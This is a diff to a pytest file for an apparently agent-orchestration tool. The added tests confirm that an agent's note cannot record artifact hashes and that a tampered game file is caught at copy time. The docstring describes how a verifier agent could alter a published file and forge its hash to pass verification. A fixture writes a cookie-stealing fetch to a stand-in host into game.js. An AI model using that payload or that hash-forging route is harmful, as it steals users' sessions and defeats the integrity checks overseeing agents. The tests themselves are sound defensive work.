@@ -4,6 +4,7 @@ into text nobody wrote, a folder taken for the game's page); each is now refused
 
 from __future__ import annotations
 
+import hashlib
 import json
 
 import pytest
@@ -112,3 +113,41 @@ def test_a_transcript_holding_its_lines_twice_names_each_copy_and_folds_it_once(
     code, err = cli("replay", sid, "--check")
     assert code == 2, err
     assert f"transcript.jsonl:{len(lines) + 1}: event {first} is line 1's already" in err
+
+
+def _a_note_recording(path: str, data: bytes) -> dict:
+    """An agent's note claiming the hash of ``data`` for ``path``: what the worker would forward."""
+    artifact = {"path": path, "sha256": hashlib.sha256(data).hexdigest(), "role": "src"}
+    return {"kind": "artifact.created", "body": "tidied the build", "artifacts": [artifact]}
+
+
+def test_an_agents_note_cannot_record_an_artifacts_hash(settings):
+    """An agent's note could carry artifacts with hashes of its own: the verifier (which runs after the
+    build) could change a published game file, record its new hash in a note, and `crumb copy-artifacts`
+    said "every sha256 verified" of the changed file. Hashes are the worker's to compute (DESIGN law 7):
+    `crumb event` refuses such a note, and the worker audits it in events.jsonl."""
+    from crumb.cli.agent_cmds import submit_agent_draft
+
+    identity = {"session_id": "S1", "actor": "verifier", "adapter": "codex", "model": None, "effect_id": "E.0"}
+    code, answer = submit_agent_draft(
+        _a_note_recording("artifacts/game/game.js", b"changed"), identity, settings.replace(redis_url=None)
+    )
+    assert code == 2 and answer["violation"] == "artifact_claim_attempt", answer
+    assert answer["detail"].endswith(
+        "an agent cannot record artifacts or their hashes: the worker hashes the files it publishes"
+    )
+
+
+def test_copy_artifacts_checks_the_hashes_the_workers_recorded_not_a_notes(cli, settings):
+    """A transcript written before the firewall refused such notes still holds them: the copy is checked
+    against the hashes of the build, and a file changed since is named."""
+    from crumb.transcript import writer_for
+
+    sid = make_session(settings, verdict="PASS", finished=True)
+    changed = b"fetch('http://far.away/' + document.cookie)"
+    (settings.session_dir(sid) / "artifacts" / "game" / "game.js").write_bytes(changed)
+    note = _a_note_recording("artifacts/game/game.js", changed) | {"from": "verifier", "session_id": sid}
+    writer_for(settings.paths(sid).transcript, sid).append(note)
+    code, err = cli("copy-artifacts", sid, "--to", str(settings.home / "copy"))
+    assert code == 1, cli.out  # type: ignore[attr-defined]
+    assert err.startswith("crumb: hash mismatch: game/game.js should be sha256 "), err
